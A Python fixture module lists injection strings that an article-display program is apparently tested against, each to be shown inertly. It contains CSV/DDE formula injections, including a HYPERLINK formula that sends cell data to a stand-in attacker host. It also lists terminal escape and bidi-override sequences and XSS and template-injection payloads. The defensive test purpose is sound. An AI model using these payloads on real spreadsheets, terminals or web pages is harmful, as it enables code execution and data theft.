"""Texts that somebody could put into an article to make a program act: each view has to show them and do nothing."""

from typing import Final

FORMULAS: Final = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\x00=1+1",
    "\N{NO-BREAK SPACE}\N{ZERO WIDTH SPACE}@SUM(1+1)",
    "\N{LINE SEPARATOR}-2+3",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "'=1+1",
    "''@x",
    '"=1+1',
    "=1+1\n=2+2",
    '=WEBSERVICE("https://evil.example")',
    "{=1+1}",
    "https://evil.example",
    "internal:Sheet2!A1",
    "file:///etc/passwd",
    "mailto:a@evil.example",
)
"""What a spreadsheet could compute, fetch or link to."""

STEERING: Final = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b2J\x1b[2J\x1b[H",
    "\rover the line",
    "back\x08\x08\x08space",
    "\u202etxt.exe\u202c",
    "\u2066isolate\u2069",
    "[red]markup[/red]",
    "[link=https://evil.example]here[/link]",
    "[/]",
    ":bomb:",
    "bell\x07 null\x00",
    "zero\u200bwidth\ufefffold",
    "\x1b]8;id=1;file:///etc/passwd\x07link\x1b]8;;\x07",
    "\x1bP1$r0m\x1b\\ \x1b_Gf=100\x1b\\ \x1b[?1049h\x1b[6n",
    "tag\U000e0041\U000e007f\u200e\u200f",
)
"""What a terminal, or Rich, could take for orders."""

HTML: Final = (
    "<script>alert(1)</script>",
    "</mark><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' style='position:fixed",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><iframe srcdoc='<script>alert(1)</script>'>",
    "{{7*7}}{% raw %}",
    "${alert(1)}",
    "$$\\href{javascript:alert(1)}{x}$$",
    "<style>@import 'https://evil.example'</style>",
    "</script><script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "<!--<script>",
    "]]><script>alert(1)</script>",
    "data:text/html,<script>alert(1)</script>",
    "&quot; onmouseover=&quot;alert(1)",
)
"""What a browser, a template or a notebook could run."""

ALL: Final = (*FORMULAS, *STEERING, *HTML)
